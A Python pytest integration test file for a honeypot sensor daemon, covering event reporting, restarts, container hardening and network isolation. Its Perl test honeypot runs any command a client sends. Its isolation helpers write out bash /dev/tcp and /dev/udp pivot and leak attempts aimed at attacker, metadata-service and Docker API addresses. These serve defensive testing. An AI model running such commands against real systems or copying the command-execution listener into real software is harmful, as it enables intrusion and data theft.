"""The daemon as a process, on an engine, a network and a server of the test's own."""

import hmac
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from sensor_support import engine, namespaces
from sensor_support.builders import PATIENCE, desired, event, eventually, service, uuid7
from sensor_support.engine import DOCKER, NestedEngine
from sensor_support.mini_server import MiniServer, mini_server
from sensor_support.namespaces import ATTACKER, ATTACKER6, OTHER_ATTACKER6, SENSOR, SENSOR6, SERVER, Lan, ping, sh

from sensor_manager.effects.network_namespace import in_network_namespace
from sensor_wire.v1.network import Network
from sensor_wire.v1.poll import ServiceReport, ServiceState

pytestmark = [pytest.mark.docker, pytest.mark.netns]

POT = r"""
use strict; use IO::Socket::IP; use IO::Socket::UNIX; use Socket;
$SIG{TERM} = sub { exit 0 }; $| = 1;
die "out of cheese\n" if $ENV{HONEYSENS_OPTIONS} =~ /"crash"/;
my $event = $ENV{HONEYSENS_OPTIONS} =~ /"event":"([^"]+)"/ ? $1 : "";
my %both = (LocalHost => "::", V6Only => 0, LocalPort => 2222, Listen => 50, ReuseAddr => 1);
my $server = IO::Socket::IP->new(%both) or die "listen: $!";
while (my $client = $server->accept) {
  my $who = $client->peerhost; my $me = $client->sockhost;
  (my $plain = $who) =~ s/^::ffff://;
  print $client "hello $plain from $ENV{HONEYSENS_SERVICE}\n";
  my $manager = IO::Socket::UNIX->new(Peer => "/run/honeysens/events.sock");
  if ($manager && $event) {
    my ($id, $time) = split /,/, $event;
    print $manager qq({"event":{"id":"$id","time":"$time","source":{"ip":"$who"},);
    print $manager qq("destination":{"ip":"$me","port":2222},);
    print $manager qq("protocol":"tcp","kind":"connection","severity":"low","session":"s","summary":"tcp"}}\n);
    $manager->flush; my $answer = <$manager>; print $client $answer;
  } else { print $client "no manager: $!\n"; }
  my $command = <$client>; chomp $command if defined $command;
  print $client `( $command ) 2>&1` if $command; close $client;
}
"""
SO_ORIGINAL_DST = 80
SECOND, SECOND6 = "198.51.100.3", "2001:db8::3"
SLEEPER = "$SIG{TERM} = sub { exit 0 }; sleep 1 while 1;"


class Sensor:
    """The sensor under test and all around it."""

    def __init__(self, folder: Path, net: Lan, server: MiniServer, engine: NestedEngine) -> None:
        self.folder = folder
        self.net = net
        self.server = server
        self.engine = engine
        self.docker = engine.address
        self.digests: dict[str, str] = {}
        self.network: Network | None = None
        self._process: subprocess.Popen[bytes] | None = None
        config = server.config()
        (folder / "sensor.json").write_text(config.model_dump_json())

    def start(self, *, path: str | None = None) -> None:
        command = [
            shutil.which("nsenter") or "",
            f"--net={namespaces.path(self.net.sensor)}",
            sys.executable,
            "-m",
            "sensor_manager.cli",
        ]
        arguments = ["run", "--config", "sensor.json", "--state", "state", "--runtime", "run", "--docker", self.docker]
        self._process = subprocess.Popen(
            [*command, *arguments],
            cwd=self.folder,
            env=os.environ | {"PATH": path or os.environ["PATH"]},
            stdout=(self.folder / "manager.log").open("ab"),
        )

    def kill(self, number: signal.Signals = signal.SIGKILL) -> int:
        assert self._process is not None
        os.kill(self._process.pid, number)
        return self._process.wait(20)

    def log(self) -> str:
        return (self.folder / "manager.log").read_text()

    def want(self, *names: str, **changes: dict[str, Any]) -> None:
        services = [self.definition(name, **changes.get(name, {})) for name in names]
        before = self.server.desired.generation if self.server.desired else 0
        wanted = desired(*services, generation=before + 1, ca_chain=self.server.authority.chain)
        self.server.desired = wanted.model_copy(update={"network": self.network})

    def definition(self, name: str, **changes: Any) -> Any:
        defaults: dict[str, dict[str, Any]] = {
            "pot": {"ports": {"2222/tcp": 22}},
            "sleeper": {"catch_all": True},
            "foreign": {"digest": self.digests["pot for arm"]},
            "second": {"digest": self.digests["pot"], "ports": {"2222/tcp": 22}},
            "raw": {"digest": self.digests["pot"], "raw": True},
            "looping": {"digest": self.digests["pot"], "options": {"crash": True}},
        }
        digest = self.digests.get(name, "")
        return service(name, **({"repository": f"test/{name}", "digest": digest} | defaults[name] | changes))

    def report(self, name: str) -> ServiceReport | None:
        found = self.server.reports[-1].services if self.server.reports else []
        return next((each for each in found if each.name == name), None)

    def has_failed(self, name: str) -> bool:
        report = self.report(name)
        return report is not None and report.state is ServiceState.FAILED

    def restarts(self, name: str) -> int:
        report = self.report(name)
        return report.restarts if report is not None else 0

    def runs_at_least(self, name: str) -> None:
        def it_runs() -> bool:
            report = self.report(name)
            return report is not None and report.state is ServiceState.RUNNING

        eventually(it_runs, f"{name} runs")

    def runs(self, *names: str) -> None:
        def all_run() -> bool:
            last = self.server.reports[-1] if self.server.reports else None
            wanted = self.server.desired
            return last is not None and wanted is not None and last.generation == wanted.generation

        try:
            eventually(all_run, f"{names} run")
        except AssertionError as error:
            raise AssertionError(f"{error}\n{self.server.reports[-1:]}\n{self.log()[-3000:]}") from error
        assert {each.name for each in self.server.reports[-1].services} == set(names)

    def rules(self) -> str:
        return sh("ip", "netns", "exec", self.net.sensor, "nft", "-s", "list", "ruleset")

    def submit(self, name: str) -> str:
        """Hand over an event as the service's adapter would."""
        with self._adapter(name) as adapter:
            if adapter is None:
                return ""
            body = event().model_dump(mode="json", exclude={"service"})
            adapter.sendall(json.dumps({"event": body}).encode() + b"\n")
            return adapter.recv(4096).decode()

    def capture(self, name: str, *, ipv6: bool = False) -> list[socket.socket]:
        """Ask for the capture sockets as the service's adapter would; none while they cannot be had."""
        with self._adapter(name) as adapter:
            if adapter is None:
                return []
            adapter.sendall(b'{"request":"capture","ipv6":true}\n' if ipv6 else b'{"request":"capture"}\n')
            _, descriptors, _, _ = socket.recv_fds(adapter, 4096, 6)
        return [socket.socket(fileno=each) for each in descriptors]

    @contextmanager
    def _adapter(self, name: str) -> Iterator[socket.socket | None]:
        with socket.socket(socket.AF_UNIX) as adapter:
            adapter.settimeout(5)
            try:
                adapter.connect(f"{self.folder}/run/services/{name}/events.sock")
            except OSError:
                yield None
            else:
                yield adapter

    def containers(self) -> dict[str, str]:
        lines = sh(DOCKER, "-H", self.docker, "ps", "--no-trunc", "--format", "{{.Names}} {{.ID}}").splitlines()
        return dict(line.split() for line in lines)

    def images(self) -> str:
        return sh(DOCKER, "-H", self.docker, "images", "--digests", "--format", "{{.Repository}}@{{.Digest}}")

    def inspect(self, name: str) -> dict[str, Any]:
        details: dict[str, Any] = json.loads(sh(DOCKER, "-H", self.docker, "inspect", f"honeysens-{name}"))[0]
        return details

    def connect(self, command: str = "", port: int = 22, source: str = ATTACKER, target: str | None = None) -> str:
        """Connect as an attacker, send one line, return everything that comes."""
        target = target or (SENSOR6 if ":" in source else SENSOR)
        script = (
            "import socket,sys\n"
            f"c=socket.create_connection(({target!r},{port}),5,({source!r},0))\n"
            f"c.sendall({command!r}.encode()+b'\\n'); c.shutdown(1)\n"
            "data=b''\n"
            "while (part:=c.recv(4096)): data+=part\n"
            "sys.stdout.write(data.decode())"
        )
        try:
            return sh("ip", "netns", "exec", self.net.lan, sys.executable, "-c", script)
        except AssertionError as error:
            return f"failed: {error}"


@dataclass
class World:
    """What takes long to make and no test wears out: networks, server, engine, images."""

    net: Lan
    server: MiniServer
    engine: NestedEngine
    digests: dict[str, str]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("world")
    with ExitStack() as stack:
        net = stack.enter_context(namespaces.lan(ipv6=True))
        outside = namespaces.path(net.lan)
        server = in_network_namespace(outside, lambda: stack.enter_context(mini_server(folder, SERVER)))
        stack.callback(shutil.rmtree, f"/etc/docker/certs.d/{server.address}", ignore_errors=True)
        nested = stack.enter_context(engine.nested_engine(folder, net.sensor))
        engine.copy_base(folder, nested)
        digests = {}
        for name, script in {"pot": POT, "sleeper": SLEEPER}.items():
            # An image of its own each time, so that removing it harms nobody.
            files = {f"{name}.pl": f"# {secrets.token_hex(4)}\n{script}"}
            image = engine.build_image(tmp_path_factory.mktemp(name), files, ["/usr/bin/perl", f"/{name}.pl"])
            stack.callback(sh, DOCKER, "rmi", "-f", image)
            digests[name] = engine.publish_image(folder, image, server)
            digests[f"{name} for arm"] = engine.publish_image(folder, image, server, architecture="arm")
        yield World(net, server, nested, digests)


@pytest.fixture
def sensor(tmp_path: Path, world: World) -> Iterator[Sensor]:
    """A sensor at its very first start; afterwards nothing of it is left in the world."""
    world.server.forget()
    made = Sensor(tmp_path, world.net, world.server, world.engine)
    made.digests = world.digests
    made.start()
    yield made
    made.kill()
    world.engine.remove_all("test/")
    sh("ip", "netns", "exec", world.net.sensor, "nft", "flush", "ruleset")


def test_first_start_to_event(sensor: Sensor) -> None:
    identifier = str(uuid7())
    sensor.want("pot", "sleeper", pot={"options": {"event": f"{identifier},{datetime.now(UTC).isoformat()}"}})
    sensor.runs("pot", "sleeper")
    answer = sensor.connect("id -u")
    assert f"hello {ATTACKER} from pot" in answer
    assert '"status":"stored"' in answer
    assert "10001" in answer
    stored = eventually(lambda: sensor.server.events.get(identifier), "the event is on the server")
    assert stored["destination"] == {"ip": SENSOR, "port": 22}
    assert stored["source"]["ip"] == ATTACKER
    assert stored["service"] == "pot"


def test_two_addresses_have_a_service_each_on_the_same_port(sensor: Sensor) -> None:
    """The second address is the manager's own doing, and goes again when it is not wanted any more."""
    main = {"mode": "static", "address": SENSOR, "prefix": 24}
    identifier = str(uuid7())
    told = {"options": {"event": f"{identifier},{datetime.now(UTC).isoformat()}"}, "address": SECOND}
    sensor.network = Network.model_validate(main | {"additional": [f"{SECOND}/24", f"{SECOND6}/64"]})
    sensor.want("pot", "second", second=told)
    sensor.runs("pot", "second")
    assert f"hello {ATTACKER} from pot" in sensor.connect()
    assert f"hello {ATTACKER} from second" in sensor.connect(target=SECOND)
    assert f"hello {ATTACKER6} from pot" in sensor.connect(source=ATTACKER6, target=SECOND6), "it has no set of its own"
    stored = eventually(lambda: sensor.server.events.get(identifier), "the event is on the server")
    assert stored["destination"] == {"ip": SECOND, "port": 22}
    assert {SENSOR, SECOND, SECOND6} <= {str(each) for each in sensor.server.reports[-1].addresses}
    before = sensor.containers()
    sensor.network = Network.model_validate(main)
    sensor.want("pot", "second", second=told | {"address": None, "ports": {"2222/tcp": 23}})
    sensor.runs("pot", "second")
    addresses = sh("ip", "-n", sensor.net.sensor, "addr", "show", "dev", "eth0")
    assert (SECOND in addresses, SECOND6 in addresses, SENSOR in addresses) == (False, False, True)
    assert sensor.containers()["honeysens-pot"] == before["honeysens-pot"]
    assert "from second" in sensor.connect(port=23)


def test_removed_service_leaves_nothing_and_catch_all_takes_its_port(sensor: Sensor) -> None:
    sensor.want("pot", "sleeper")
    sensor.runs("pot", "sleeper")
    first = sensor.connect()
    assert "hello" in first
    sensor.want("sleeper")
    sensor.runs("sleeper")
    assert set(sensor.containers()) == {"honeysens-sleeper"}
    assert "test/pot" not in sensor.images()
    assert sh(DOCKER, "-H", sensor.docker, "volume", "ls", "-q") == ""
    _, _, listener = sensor.capture("sleeper")
    with listener:
        listener.settimeout(5)
        answers = subprocess.Popen(
            ["ip", "netns", "exec", sensor.net.lan, *_connect_command(22)], stdout=subprocess.PIPE
        )
        connection, peer = listener.accept()
        with connection:
            original = connection.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
            connection.sendall(b"caught")
        assert peer[0] == ATTACKER
        assert int.from_bytes(original[2:4]) == 22
        assert answers.communicate(timeout=PATIENCE)[0] == b"caught"
    sensor.want("pot", "sleeper")
    sensor.runs("pot", "sleeper")
    assert "hello" in sensor.connect()


def test_restarts_adopt_what_runs(sensor: Sensor) -> None:
    sensor.want("pot", "sleeper")
    sensor.runs("pot", "sleeper")
    before = sensor.containers()
    rules = sensor.rules()
    sensor.kill()
    sensor.server.available = False
    assert "hello" in sensor.connect()
    sensor.start()
    eventually(lambda: "stored" in sensor.submit("pot"), "the socket is served again")
    assert sensor.containers() == before
    assert sensor.rules() == rules
    sensor.server.available = True
    sensor.server.reports.clear()
    sensor.runs("pot", "sleeper")
    assert sensor.containers() == before
    eventually(lambda: sensor.server.events, "the event of the time without server arrives")


def test_engine_restart_brings_all_back(sensor: Sensor) -> None:
    sensor.want("pot", "sleeper")
    sensor.runs("pot", "sleeper")
    sensor.engine.restart()
    eventually(lambda: "hello" in sensor.connect(), "the honeypot answers again")
    for each in eventually(lambda: sensor.capture("sleeper"), "the catch-all captures again"):
        each.close()


def test_ended_catch_all_is_started_and_prepared_again(sensor: Sensor) -> None:
    sensor.want("sleeper")
    sensor.runs("sleeper")
    sandbox = sensor.inspect("sleeper")["NetworkSettings"]["SandboxKey"]
    sh(DOCKER, "-H", sensor.docker, "kill", "honeysens-sleeper")
    eventually(lambda: sensor.inspect("sleeper")["NetworkSettings"]["SandboxKey"] not in {"", sandbox}, "it is back")
    eventually(lambda: sensor.restarts("sleeper") == 1, "the restart is reported")
    packet, raw, listener = eventually(lambda: sensor.capture("sleeper"), "it captures again")
    with packet, raw, listener:
        listener.settimeout(5)
        with subprocess.Popen(["ip", "netns", "exec", sensor.net.lan, *_connect_command(4711)]) as client:
            connection, _ = listener.accept()
            connection.close()
            client.wait(5)


def test_new_revision_replaces_old_one_only_when_its_image_is_there(sensor: Sensor) -> None:
    sensor.want("pot")
    sensor.runs("pot")
    before = sensor.containers()
    missing = f"sha256:{'0' * 64}"
    sensor.want("pot", "sleeper", pot={"digest": missing, "revision": "2"})
    eventually(lambda: sensor.has_failed("pot"), "the pull's failure is reported")
    failed = sensor.report("pot")
    assert failed is not None
    assert failed.error is not None
    assert missing in failed.error
    assert sensor.containers()["honeysens-pot"] == before["honeysens-pot"]
    assert "hello" in sensor.connect()
    eventually(lambda: "honeysens-sleeper" in sensor.containers(), "the other service runs all the same")
    sensor.want("pot", "sleeper", pot={"revision": "3"})
    sensor.runs("pot", "sleeper")
    assert sensor.containers()["honeysens-pot"] != before["honeysens-pot"]


def test_hopeless_services_say_why_and_hinder_no_other(sensor: Sensor) -> None:
    foreign_container = sh(DOCKER, "-H", sensor.docker, "create", "--network", "none", engine.BASE, "true").strip()
    sensor.want("pot", "foreign", "looping")
    sensor.runs_at_least("pot")
    assert "hello" in sensor.connect()
    foreign = eventually(
        lambda: (found := sensor.report("foreign")) and found.state is ServiceState.FAILED and found, "the refusal"
    )  # between two attempts; while it asks the registry again, it is pulling
    assert "the image is for arm, this sensor is amd64" in foreign.error
    verdict = eventually(lambda: (found := sensor.report("looping")) and found.crash_loop and found, "the verdict")
    assert verdict.state is ServiceState.FAILED
    assert set(verdict.log) == {"out of cheese"}
    assert "code 255, again and again" in verdict.error
    sensor.want("pot")
    sensor.runs("pot")
    assert set(sensor.containers()) == {"honeysens-pot"}
    assert sh(DOCKER, "-H", sensor.docker, "ps", "-aq", "--no-trunc", "-f", f"id={foreign_container}"), "not ours"


def test_run_contract(sensor: Sensor) -> None:
    sensor.want("pot", pot={"limits": {"memory_mb": 64, "pids": 16}})
    sensor.runs("pot")
    details = sensor.inspect("pot")
    host = details["HostConfig"]
    assert details["Config"]["User"] == "10001:10001"
    assert (host["ReadonlyRootfs"], host["Privileged"], host["CapDrop"], host["CapAdd"]) == (True, False, ["ALL"], None)
    assert host["SecurityOpt"] == ["no-new-privileges"]
    assert (host["Memory"], host["MemorySwap"], host["PidsLimit"]) == (64 << 20, 64 << 20, 16)
    assert host["RestartPolicy"]["Name"] in {"", "no"}
    assert [(each["Destination"], each["RW"]) for each in details["Mounts"]] == [("/run/honeysens", False)]
    status = sensor.connect("cat /proc/self/status; touch /x; touch /tmp/x && stat -c %a:%u /tmp; df -m /tmp | tail -1")
    assert "CapBnd:\t0000000000000000" in status
    assert "NoNewPrivs:\t1" in status
    assert "touch: cannot touch '/x': Read-only file system" in status
    assert ":10001" in status
    assert " 64 " in status
    identity = sensor.connect("cat /run/honeysens/identity; stat -c ' %a:%u' /run/honeysens/identity")
    seed = bytes.fromhex((sensor.folder / "state/seed").read_text())
    assert f"{hmac.digest(seed, b'pot', 'sha256').hex()} 400:10001" in identity
    tried = sensor.connect("chmod 600 /run/honeysens/identity; rm /run/honeysens/identity; touch /run/honeysens/x")
    assert tried.count("Read-only file system") == 3
    sensor.kill()
    (sensor.folder / "run/services/pot/identity").unlink()
    sensor.start()
    eventually((sensor.folder / "run/services/pot/identity").exists, "it is there again")
    assert sensor.connect("cat /run/honeysens/identity; stat -c ' %a:%u' /run/honeysens/identity") == identity


def test_ipv6_attackers_reach_honeypots_and_are_told_by_their_own_address(sensor: Sensor) -> None:
    identifier = str(uuid7())
    sensor.want("pot", "sleeper", pot={"options": {"event": f"{identifier},{datetime.now(UTC).isoformat()}"}})
    sensor.runs("pot", "sleeper")
    assert f"hello {ATTACKER6} from pot" in sensor.connect(source=ATTACKER6)
    stored = eventually(lambda: sensor.server.events.get(identifier), "the event is on the server")
    assert stored["destination"] == {"ip": SENSOR6, "port": 22}
    assert stored["source"]["ip"] == ATTACKER6
    assert SENSOR6 in {str(each) for each in sensor.server.reports[-1].addresses}
    assert len(sensor.capture("sleeper")) == 3, "an older adapter asks for these"
    *_, packets, _, listener = sensor.capture("sleeper", ipv6=True)
    with listener, packets, in_network_namespace(namespaces.path(sensor.net.lan), _client6) as client:
        packets.settimeout(5)
        listener.settimeout(5)
        client.connect((SENSOR6, 4711))
        connection, peer = listener.accept()
        with connection:
            original = connection.getsockopt(socket.IPPROTO_IPV6, SO_ORIGINAL_DST, 28)
        assert (peer[0], int.from_bytes(original[2:4])) == (ATTACKER6, 4711)
        assert ping(sensor.net.lan, SENSOR6)
        while packets.recv(2000)[6:41:34] != bytes([socket.IPPROTO_ICMPV6, 128]):
            pass  # until the echo request


BRIDGES = {"pot": ("10.10.10.1", "fd68:6f6e:6579::1"), "sleeper": ("10.10.10.5", "fd68:6f6e:6579:1::1")}
OTHERS = {"pot": ("10.10.10.6", "fd68:6f6e:6579:1::2"), "sleeper": ("10.10.10.2", "fd68:6f6e:6579::2")}


def _pivots(name: str) -> list[str]:
    """All that a honeypot could want to reach: IPv4 and IPv6 alike."""
    places = [(SERVER, 8443), (OTHER_ATTACKER6, 8443), (ATTACKER, 9999), (ATTACKER6, 9999), (SENSOR, 22), (SENSOR6, 22)]
    places += [(address, 22) for address in BRIDGES[name]]
    places += [(address, port) for address in OTHERS[name] for port in (60999, 2222)]
    places += [("192.0.2.1", 443), ("2001:db8:1::1", 443), ("169.254.169.254", 80), ("fe80::1%eth0", 22)]
    places += [(address, 2375) for address in BRIDGES[name]]
    return [*(f"exec 3<>/dev/tcp/{address}/{port}" for address, port in places), "getent hosts sensor.example"]


def _assert_closed(sensor: Sensor) -> None:
    """From a mapped service through its attacker's session, from the catch-all as one who has taken it over."""
    leaks = [f"exec 3>/dev/udp/{address}/5000; echo leak >&3" for address in (ATTACKER, ATTACKER6)]
    for name in ("pot", "sleeper"):
        attempts = [f"(timeout 1 bash -c '{each}' && echo OPEN {each} || echo shut) &" for each in _pivots(name)]
        script = " ".join([*attempts, *(f"(bash -c '{each}') &" for each in leaks), "wait"])
        command = [DOCKER, "-H", sensor.docker, "exec", f"honeysens-{name}", "bash", "-c", f"( {script} ) 2>/dev/null"]
        answer = sensor.connect(script) if name == "pot" else sh(*command)
        assert answer.count("shut") == len(attempts), (name, answer)
        assert "OPEN" not in answer, (name, answer)


def test_taken_over_honeypot_reaches_nothing_also_after_restarts(sensor: Sensor) -> None:
    sensor.want("pot", "sleeper")
    sensor.runs("pot", "sleeper")
    outside = namespaces.path(sensor.net.lan)
    with ExitStack() as stack:
        leaks = []
        for address in (ATTACKER, ATTACKER6):
            stack.enter_context(in_network_namespace(outside, partial(_listener, address, 9999)))
            leaks.append(stack.enter_context(in_network_namespace(outside, partial(_datagram_socket, address, 5000))))
        _assert_closed(sensor)
        sh("ip", "netns", "exec", sensor.net.sensor, "nft", "delete", "table", "inet", "honeysens")
        eventually(lambda: "honeysens" in sensor.rules(), "the rules are back")
        repairs = eventually(lambda: sensor.server.reports[-1].netfilter, "the repair is reported")
        assert repairs.repairs == 1
        sensor.engine.restart()
        sensor.kill(signal.SIGTERM)
        sensor.start()
        sensor.server.reports.clear()
        sensor.runs("pot", "sleeper")
        _assert_closed(sensor)
        for leak in leaks:
            with pytest.raises(BlockingIOError):
                leak.recv(100)


def test_raw_service_is_never_started(sensor: Sensor) -> None:
    """The contract of this sensor gives nobody raw access: there is nothing that could be taken over."""
    sensor.want("pot", "raw")
    sensor.runs_at_least("pot")
    eventually(lambda: sensor.has_failed("raw"), "the refusal is reported")
    assert "raw network access" in (sensor.server.reports[-1].model_dump_json())
    assert set(sensor.containers()) == {"honeysens-pot"}


def test_no_honeypot_runs_without_netfilter(sensor: Sensor) -> None:
    sensor.want("pot")
    sensor.runs("pot")
    sensor.kill()
    sh("ip", "netns", "exec", sensor.net.sensor, "nft", "delete", "table", "inet", "honeysens")
    tools = sensor.folder / "tools"
    tools.mkdir()
    for tool in ("conntrack", "ip", "sh"):
        (tools / tool).symlink_to(shutil.which(tool) or "")
    sensor.start(path=str(tools))
    eventually(lambda: not sensor.containers(), "the honeypot is stopped")
    eventually(lambda: sensor.has_failed("pot"), "the reason is reported")
    last = sensor.server.reports[-1]
    assert last.error is not None
    assert "nft is not installed" in last.error
    sensor.kill()
    sensor.start()
    eventually(lambda: "hello" in sensor.connect(), "with netfilter the honeypot runs again")


def _connect_command(port: int) -> list[str]:
    script = (
        f"import socket,sys; c=socket.create_connection(({SENSOR!r},{port}),5,({ATTACKER!r},0));"
        "sys.stdout.buffer.write(c.recv(99))"
    )
    return [sys.executable, "-c", script]


def _client6() -> socket.socket:
    made = socket.socket(socket.AF_INET6)
    made.settimeout(5)
    made.bind((ATTACKER6, 0))
    return made


def _family(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def _listener(address: str, port: int) -> socket.socket:
    return socket.create_server((address, port), family=_family(address))


def _datagram_socket(address: str, port: int) -> socket.socket:
    made = socket.socket(_family(address), socket.SOCK_DGRAM)
    made.bind((address, port))
    made.settimeout(0)
    return made
